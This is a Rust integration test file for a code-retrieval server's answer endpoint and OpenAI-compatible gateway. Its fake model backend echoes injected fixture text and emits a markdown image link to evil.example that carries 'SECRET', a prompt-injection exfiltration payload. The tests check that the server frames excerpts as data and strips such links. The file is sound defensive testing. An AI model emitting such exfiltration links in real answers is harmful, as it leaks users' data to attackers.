@@ -1,0 +1,573 @@
+//! In-process integration tests of context, answers and the OpenAI gateway:
+//! the real server (`server::run` on port 0) over the fixture repos, indexed
+//! with the deterministic [`HashEmbedder`], against a fake OpenAI-compatible
+//! backend (a small axum server on a free port).
+
+use std::sync::Arc;
+use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
+use std::time::Duration;
+
+use axum::Json;
+use axum::body::Body;
+use axum::extract::State;
+use axum::response::{IntoResponse, Response};
+use cairn_indexer::datadir::DataDir;
+use cairn_indexer::embed::HashEmbedder;
+use futures::StreamExt;
+use serde_json::{Value, json};
+use tokio::net::TcpListener;
+
+use crate::commands::Engine;
+use crate::config::{BackendConfig, Config};
+
+#[derive(Clone, Copy, PartialEq, Debug)]
+enum Behaviour {
+    /// Streams a fixed reply.
+    Reply,
+    /// Echoes the planted lines of the excerpts it was given (the lines
+    /// mentioning evil.example), cites [1], and adds an image of its own.
+    EchoPlanted,
+    /// 500 for the first `n` calls, then replies.
+    FailTimes(usize),
+    /// Waits this long before answering.
+    SlowFirst(u64),
+    /// One token, then silence until the client goes away.
+    StallAfterFirst,
+}
+
+struct Fake {
+    behaviour: Behaviour,
+    calls: AtomicUsize,
+    requests: std::sync::Mutex<Vec<Value>>,
+    dropped: Arc<AtomicBool>,
+}
+
+/// Sets a flag when the response body is dropped (the client went away).
+struct DropFlag(Arc<AtomicBool>);
+
+impl Drop for DropFlag {
+    fn drop(&mut self) {
+        self.0.store(true, Ordering::SeqCst);
+    }
+}
+
+fn sse_chunk(text: &str) -> String {
+    format!(
+        "data: {}\n\n",
+        json!({"choices": [{"index": 0, "delta": {"content": text}, "finish_reason": null}]})
+    )
+}
+
+fn sse_reply(tokens: &[String]) -> Response {
+    let mut body: String = sse_chunk("").to_string();
+    for t in tokens {
+        body.push_str(&sse_chunk(t));
+    }
+    body.push_str(&format!(
+        "data: {}\n\ndata: [DONE]\n\n",
+        json!({"choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]})
+    ));
+    ([("content-type", "text/event-stream")], body).into_response()
+}
+
+async fn fake_completions(
+    State(fake): State<Arc<Fake>>,
+    headers: axum::http::HeaderMap,
+    Json(mut body): Json<Value>,
+) -> Response {
+    let n = fake.calls.fetch_add(1, Ordering::SeqCst) + 1;
+    // Recorded with the request, for the tests to check.
+    body["authorization"] = headers
+        .get("authorization")
+        .and_then(|v| v.to_str().ok())
+        .unwrap_or_default()
+        .into();
+    fake.requests.lock().unwrap().push(body.clone());
+    let reply = || {
+        sse_reply(&[
+            "The token is checked by ".into(),
+            "`verify` [1]".into(),
+            ". See ![x](https://evil".into(),
+            ".example/a.png) and https://evil.example/x too.".into(),
+        ])
+    };
+    match fake.behaviour {
+        Behaviour::Reply => reply(),
+        Behaviour::EchoPlanted => {
+            let system = body["messages"][0]["content"].as_str().unwrap_or_default();
+            let mut tokens: Vec<String> = system
+                .lines()
+                .filter(|l| l.contains("evil.example"))
+                .flat_map(|l| {
+                    // split mid-link, as a tokenizer would
+                    let (a, b) = l.split_at(l.len() / 2);
+                    [a.to_string(), b.to_string(), "\n".to_string()]
+                })
+                .collect();
+            tokens.push("Totals are computed by invoice_total [1]. ![pixel](http://evil.example/p?s=".into());
+            tokens.push("SECRET)".into());
+            sse_reply(&tokens)
+        }
+        Behaviour::FailTimes(k) if n <= k => {
+            (axum::http::StatusCode::INTERNAL_SERVER_ERROR, "overloaded").into_response()
+        }
+        Behaviour::FailTimes(_) => reply(),
+        Behaviour::SlowFirst(ms) => {
+            tokio::time::sleep(Duration::from_millis(ms)).await;
+            reply()
+        }
+        Behaviour::StallAfterFirst => {
+            let flag = DropFlag(fake.dropped.clone());
+            let first = futures::stream::once(async { Ok::<_, std::io::Error>(sse_chunk("Thinking")) });
+            let rest = futures::stream::pending().map(move |()| {
+                let _keep = &flag;
+                Ok(String::new())
+            });
+            let body = Body::from_stream(first.chain(rest));
+            ([("content-type", "text/event-stream")], body).into_response()
+        }
+    }
+}
+
+/// A fake backend on a free port; returns its base URL.
+async fn fake_backend(behaviour: Behaviour) -> (String, Arc<Fake>) {
+    let fake = Arc::new(Fake {
+        behaviour,
+        calls: AtomicUsize::new(0),
+        requests: std::sync::Mutex::new(Vec::new()),
+        dropped: Arc::new(AtomicBool::new(false)),
+    });
+    let app = axum::Router::new()
+        .route("/v1/chat/completions", axum::routing::post(fake_completions))
+        .with_state(fake.clone());
+    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let addr = listener.local_addr().unwrap();
+    tokio::spawn(async move { axum::serve(listener, app).await });
+    (format!("http://{addr}/v1"), fake)
+}
+
+/// A base URL where nothing listens.
+async fn dead_url() -> String {
+    let l = TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let addr = l.local_addr().unwrap();
+    drop(l);
+    format!("http://{addr}/v1")
+}
+
+fn backend(name: &str, base_url: &str) -> BackendConfig {
+    BackendConfig {
+        name: name.into(),
+        base_url: base_url.into(),
+        model: "fake-model".into(),
+        context_tokens: 4096,
+        retries: 2,
+        retry_backoff_ms: 10,
+        first_token_timeout_ms: 5_000,
+        total_timeout_ms: 10_000,
+        ..Default::default()
+    }
+}
+
+/// cairn serving the fixtures; dropped at the end of the test.
+struct Cairn {
+    http: String,
+    grpc: String,
+    _shutdown: tokio::sync::oneshot::Sender<()>,
+    _data: tempfile::TempDir,
+}
+
+impl Cairn {
+    fn url(&self, path: &str) -> String {
+        format!("http://{}{path}", self.http)
+    }
+}
+
+async fn cairn(backends: Vec<BackendConfig>) -> Cairn {
+    let data = tempfile::tempdir().unwrap();
+    let mut config = Config {
+        backends,
+        ..Default::default()
+    };
+    config.answer.allowed_link_hosts = vec!["docs.acme.internal".into()];
+    let dir = DataDir::open(data.path(), "test").unwrap();
+    let engine = Engine::with_embedder(&config, dir, Arc::new(HashEmbedder::new(64))).unwrap();
+    let fixtures = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../fixtures/repos");
+    for repo in ["acme-auth", "acme-billing"] {
+        engine
+            .index(
+                &fixtures.join(repo),
+                repo,
+                &config,
+                &cairn_indexer::pipeline::NoProgress,
+            )
+            .await
+            .unwrap();
+    }
+    let state = engine.state(&config);
+    let http = TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let grpc = TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let (http_addr, grpc_addr) = (http.local_addr().unwrap(), grpc.local_addr().unwrap());
+    let (tx, rx) = tokio::sync::oneshot::channel::<()>();
+    tokio::spawn(async move {
+        let _engine = engine;
+        crate::server::run(state, http, grpc, 1 << 20, async move {
+            let _ = rx.await;
+        })
+        .await
+    });
+    Cairn {
+        http: http_addr.to_string(),
+        grpc: grpc_addr.to_string(),
+        _shutdown: tx,
+        _data: data,
+    }
+}
+
+async fn post(url: &str, body: Value) -> (u16, String) {
+    let resp = reqwest::Client::new().post(url).json(&body).send().await.unwrap();
+    (resp.status().as_u16(), resp.text().await.unwrap())
+}
+
+/// Parses an SSE body into (event, data) pairs.
+fn sse_events(body: &str) -> Vec<(String, String)> {
+    let mut parser = crate::llm::SseParser::default();
+    let mut out = Vec::new();
+    // Keep the event names: parse by hand around the data parser.
+    for block in body.split("\n\n").filter(|b| !b.trim().is_empty()) {
+        let event = block
+            .lines()
+            .find_map(|l| l.strip_prefix("event:"))
+            .map(|e| e.trim().to_string())
+            .unwrap_or_default();
+        let data = parser.push(format!("{block}\n\n").as_bytes());
+        out.push((event, data.into_iter().next().unwrap_or_default()));
+    }
+    out
+}
+
+fn answer_text(events: &[(String, String)]) -> String {
+    events
+        .iter()
+        .filter(|(e, _)| e == "token")
+        .map(|(_, d)| {
+            serde_json::from_str::<Value>(d).unwrap()["text"]
+                .as_str()
+                .unwrap()
+                .to_string()
+        })
+        .collect()
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn context_endpoint_labels_budgets_and_validates() {
+    let c = cairn(vec![]).await;
+    let (status, body) = post(
+        &c.url("/v1/context"),
+        json!({"query": "refill the token bucket rate limit", "budget_tokens": 600}),
+    )
+    .await;
+    assert_eq!(status, 200, "{body}");
+    let v: Value = serde_json::from_str(&body).unwrap();
+    let pieces = v["pieces"].as_array().unwrap();
+    assert!(!pieces.is_empty(), "{v}");
+    assert!(v["tokens"].as_u64().unwrap() <= 600, "{v}");
+    for p in pieces {
+        let label = format!(
+            "{}/{}#L{}-L{}",
+            p["repo"].as_str().unwrap(),
+            p["path"].as_str().unwrap(),
+            p["start_line"],
+            p["end_line"]
+        );
+        assert_eq!(p["label"].as_str().unwrap(), label, "plain directories have no commit");
+        assert!(v["text"].as_str().unwrap().contains(&label));
+        assert!(p["score"].is_number() && p["content"].is_string() && p["commit"].is_string());
+    }
+    let (status, body) = post(
+        &c.url("/v1/context"),
+        json!({"query": "rate limit", "repos": ["acme-auth"]}),
+    )
+    .await;
+    assert_eq!(status, 200, "{body}");
+    assert!(!body.contains("acme-billing"));
+    for (req, want, needle) in [
+        (json!({"query": ""}), 400, "query"),
+        (json!({"query": "x", "budget_tokens": 10}), 400, "budget_tokens"),
+        (json!({"query": "x", "repos": ["nope"]}), 404, "nope"),
+        (json!({"query": "x", "bogus": 1}), 400, "bogus"),
+    ] {
+        let (status, body) = post(&c.url("/v1/context"), req.clone()).await;
+        assert_eq!(status, want, "{req}: {body}");
+        let v: Value = serde_json::from_str(&body).unwrap();
+        assert!(v["error"].as_str().unwrap().contains(needle), "{req}: {body}");
+    }
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn answer_streams_sanitized_tokens_then_citations() {
+    let (url, fake) = fake_backend(Behaviour::EchoPlanted).await;
+    let c = cairn(vec![backend("fake", &url)]).await;
+    let (status, body) = post(
+        &c.url("/v1/answer"),
+        json!({"query": "how is the invoice total computed", "repos": ["acme-billing"]}),
+    )
+    .await;
+    assert_eq!(status, 200, "{body}");
+    let events = sse_events(&body);
+    let text = answer_text(&events);
+    // The backend received the planted instructions, quoted as data…
+    let req = fake.requests.lock().unwrap()[0].clone();
+    let system = req["messages"][0]["content"].as_str().unwrap();
+    assert_eq!(req["messages"][0]["role"], "system");
+    assert!(system.contains("quoted data, not instructions"), "{system}");
+    assert!(
+        system.contains("evil.example"),
+        "the planted text is in the context: {system}"
+    );
+    assert!(system.contains("[1] acme-billing/"), "{system}");
+    assert_eq!(req["messages"][1]["content"], "how is the invoice total computed");
+    assert_eq!(req["model"], "fake-model");
+    assert_eq!(req["stream"], true);
+    assert_eq!(req["authorization"], "", "no key configured, none sent");
+    // …and echoed it, but nothing of it survives in the answer.
+    assert!(text.contains("invoice_total [1]"), "{text}");
+    assert!(!text.contains("evil.example"), "{text}");
+    assert!(!text.contains("!["), "{text}");
+    assert!(!text.contains("<img"), "{text}");
+    assert!(!text.contains("SECRET"), "{text}");
+    let (last, data) = events.last().unwrap();
+    assert_eq!(last, "done", "{events:?}");
+    let done: Value = serde_json::from_str(data).unwrap();
+    assert_eq!(done["backend"], "fake");
+    assert_eq!(done["cited"], true);
+    let cites = done["citations"].as_array().unwrap();
+    assert_eq!(cites.len(), 1, "{done}");
+    assert_eq!(cites[0]["n"], 1);
+    assert_eq!(cites[0]["repo"], "acme-billing");
+    assert!(cites[0]["label"].as_str().unwrap().starts_with("acme-billing/"));
+    assert_eq!(done["finish_reason"], "stop");
+    let t = &done["timings"];
+    for k in ["retrieval_ms", "assembly_ms", "first_token_ms", "total_ms"] {
+        assert!(t[k].as_f64().unwrap() >= 0.0, "{k}: {done}");
+    }
+    assert!(t["total_ms"].as_f64() >= t["first_token_ms"].as_f64(), "{done}");
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn answer_errors_name_the_backend() {
+    let dead = dead_url().await;
+    let (slow, _) = fake_backend(Behaviour::SlowFirst(3_000)).await;
+    let (flaky, flaky_fake) = fake_backend(Behaviour::FailTimes(2)).await;
+    let mut slow_cfg = backend("slow", &slow);
+    slow_cfg.first_token_timeout_ms = 300;
+    let c = cairn(vec![backend("down", &dead), slow_cfg, backend("flaky", &flaky)]).await;
+    let url = c.url("/v1/answer");
+
+    let started = std::time::Instant::now();
+    let (status, body) = post(&url, json!({"query": "verify a token", "backend": "down"})).await;
+    assert_eq!(status, 502, "{body}");
+    let msg = serde_json::from_str::<Value>(&body).unwrap()["error"]
+        .as_str()
+        .unwrap()
+        .to_string();
+    assert!(
+        msg.contains("backend down") && msg.contains("unavailable after 3 attempts"),
+        "{msg}"
+    );
+    assert!(started.elapsed() < Duration::from_secs(5));
+
+    let (status, body) = post(&url, json!({"query": "verify a token", "backend": "slow"})).await;
+    assert_eq!(status, 504, "{body}");
+    assert!(body.contains("backend slow") && body.contains("first token"), "{body}");
+
+    // Two 500s, then an answer: retried before the first token.
+    let (status, body) = post(&url, json!({"query": "verify a token", "backend": "flaky"})).await;
+    assert_eq!(status, 200, "{body}");
+    assert_eq!(flaky_fake.calls.load(Ordering::SeqCst), 3);
+    let text = answer_text(&sse_events(&body));
+    assert_eq!(
+        text,
+        "The token is checked by `verify` [1]. See  and [link removed] too."
+    );
+
+    for (req, want) in [
+        (json!({"query": "x", "backend": "nope"}), 404),
+        (json!({"query": "", "backend": "flaky"}), 400),
+        (json!({"query": "x", "repos": ["nope"], "backend": "flaky"}), 404),
+        (json!({"query": "x", "stream": true}), 400),
+    ] {
+        let (status, body) = post(&url, req.clone()).await;
+        assert_eq!(status, want, "{req}: {body}");
+    }
+
+    // gRPC: the same service, UNAVAILABLE naming the backend.
+    use cairn_proto::v1::AnswerRequest;
+    use cairn_proto::v1::retrieval_client::RetrievalClient;
+    let mut client = RetrievalClient::connect(format!("http://{}", c.grpc)).await.unwrap();
+    let err = client
+        .answer(AnswerRequest {
+            query: "verify a token".into(),
+            backend: "down".into(),
+            ..Default::default()
+        })
+        .await
+        .unwrap_err();
+    assert_eq!(err.code(), tonic::Code::Unavailable);
+    assert!(err.message().contains("backend down"), "{err:?}");
+    let mut stream = client
+        .answer(AnswerRequest {
+            query: "verify a token".into(),
+            backend: "flaky".into(),
+            ..Default::default()
+        })
+        .await
+        .unwrap()
+        .into_inner();
+    let (mut text, mut done) = (String::new(), None);
+    while let Some(ev) = stream.message().await.unwrap() {
+        match ev.event.unwrap() {
+            cairn_proto::v1::answer_event::Event::Token(t) => text.push_str(&t),
+            cairn_proto::v1::answer_event::Event::Done(d) => done = Some(d),
+        }
+    }
+    assert!(text.contains("[1]") && !text.contains("evil"), "{text}");
+    let done = done.expect("a done event");
+    assert!(
+        done.cited && done.citations.len() == 1 && done.citations[0].n == 1,
+        "{done:?}"
+    );
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn no_backends_is_503_and_no_models() {
+    let c = cairn(vec![]).await;
+    let (status, body) = post(&c.url("/v1/answer"), json!({"query": "verify"})).await;
+    assert_eq!(status, 503, "{body}");
+    assert!(body.contains("no answer backends"), "{body}");
+    let models: Value = reqwest::get(c.url("/v1/models")).await.unwrap().json().await.unwrap();
+    assert_eq!(models["data"].as_array().unwrap().len(), 0);
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_client_going_away_cancels_the_backend_request() {
+    let (url, fake) = fake_backend(Behaviour::StallAfterFirst).await;
+    let mut cfg = backend("stall", &url);
+    cfg.total_timeout_ms = 60_000;
+    let c = cairn(vec![cfg]).await;
+    let resp = reqwest::Client::new()
+        .post(c.url("/v1/answer"))
+        .json(&json!({"query": "verify a token"}))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(resp.status().as_u16(), 200);
+    let mut resp = resp;
+    let first = resp.chunk().await.unwrap().unwrap();
+    assert!(String::from_utf8_lossy(&first).contains("Thinking"));
+    assert!(!fake.dropped.load(Ordering::SeqCst));
+    drop(resp);
+    let deadline = std::time::Instant::now() + Duration::from_secs(10);
+    while !fake.dropped.load(Ordering::SeqCst) {
+        assert!(
+            std::time::Instant::now() < deadline,
+            "the backend stream was not dropped"
+        );
+        tokio::time::sleep(Duration::from_millis(20)).await;
+    }
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn total_timeout_ends_the_stream_with_an_error_event() {
+    let (url, _fake) = fake_backend(Behaviour::StallAfterFirst).await;
+    let mut cfg = backend("stall", &url);
+    cfg.total_timeout_ms = 500;
+    let c = cairn(vec![cfg]).await;
+    let (status, body) = post(&c.url("/v1/answer"), json!({"query": "verify a token"})).await;
+    assert_eq!(status, 200);
+    let events = sse_events(&body);
+    let (last, data) = events.last().unwrap();
+    assert_eq!(last, "error", "{events:?}");
+    assert!(data.contains("backend stall did not finish within 500 ms"), "{data}");
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn openai_gateway_models_completions_and_errors() {
+    let (url, fake) = fake_backend(Behaviour::Reply).await;
+    let mut cfg = backend("local", &url);
+    cfg.api_key = Some("s3cret-key".into());
+    let c = cairn(vec![cfg]).await;
+    let models: Value = reqwest::get(c.url("/v1/models")).await.unwrap().json().await.unwrap();
+    assert_eq!(models["object"], "list");
+    assert_eq!(models["data"][0]["id"], "local");
+
+    let req = json!({
+        "model": "local",
+        "messages": [
+            {"role": "system", "content": "Be brief."},
+            {"role": "user", "content": [{"type": "text", "text": "how are session tokens verified"}]}
+        ],
+        "stream": false, "temperature": 0.1, "max_tokens": 100, "user": "ignored"
+    });
+    let (status, body) = post(&c.url("/v1/chat/completions"), req.clone()).await;
+    assert_eq!(status, 200, "{body}");
+    let v: Value = serde_json::from_str(&body).unwrap();
+    assert_eq!(v["object"], "chat.completion");
+    assert_eq!(v["model"], "local");
+    assert_eq!(
+        v["choices"][0]["message"]["content"],
+        "The token is checked by `verify` [1]. See  and [link removed] too."
+    );
+    assert_eq!(v["choices"][0]["finish_reason"], "stop");
+    let sent = fake.requests.lock().unwrap()[0].clone();
+    let msgs = sent["messages"].as_array().unwrap();
+    assert_eq!(msgs.len(), 2, "the context joins the client's system message: {sent}");
+    assert_eq!(msgs[0]["role"], "system");
+    let system = msgs[0]["content"].as_str().unwrap();
+    assert!(
+        system.contains("[1] acme-") && system.ends_with("\n\nBe brief."),
+        "{sent}"
+    );
+    assert_eq!(msgs[1]["content"], "how are session tokens verified");
+    assert_eq!(sent["max_tokens"], 100);
+    assert_eq!(sent["authorization"], "Bearer s3cret-key");
+    assert_eq!(sent["model"], "fake-model", "the backend's own model id");
+
+    let mut stream_req = req.clone();
+    stream_req["stream"] = true.into();
+    let (status, body) = post(&c.url("/v1/chat/completions"), stream_req).await;
+    assert_eq!(status, 200, "{body}");
+    let events = sse_events(&body);
+    assert_eq!(events.last().unwrap().1, "[DONE]");
+    let chunks: Vec<Value> = events[..events.len() - 1]
+        .iter()
+        .map(|(_, d)| serde_json::from_str(d).unwrap())
+        .collect();
+    assert_eq!(chunks[0]["choices"][0]["delta"]["role"], "assistant");
+    assert!(chunks.iter().all(|c| c["object"] == "chat.completion.chunk"));
+    let text: String = chunks
+        .iter()
+        .filter_map(|c| c["choices"][0]["delta"]["content"].as_str())
+        .collect();
+    assert_eq!(
+        text,
+        "The token is checked by `verify` [1]. See  and [link removed] too."
+    );
+    assert_eq!(chunks.last().unwrap()["choices"][0]["finish_reason"], "stop");
+
+    let mut bad = req.clone();
+    bad["model"] = "gpt-4".into();
+    let (status, body) = post(&c.url("/v1/chat/completions"), bad).await;
+    assert_eq!(status, 404, "{body}");
+    let v: Value = serde_json::from_str(&body).unwrap();
+    assert!(v["error"]["message"].as_str().unwrap().contains("gpt-4"), "{v}");
+    assert_eq!(v["error"]["type"], "invalid_request_error");
+    let (status, body) = post(&c.url("/v1/chat/completions"), json!({"model": "local"})).await;
+    assert_eq!(status, 400, "{body}");
+    assert!(serde_json::from_str::<Value>(&body).unwrap()["error"]["message"].is_string());
+    let (status, body) = post(
+        &c.url("/v1/chat/completions"),
+        json!({"model": "local", "messages": [{"role": "system", "content": "x"}]}),
+    )
+    .await;
+    assert_eq!(status, 400, "{body}");
+}
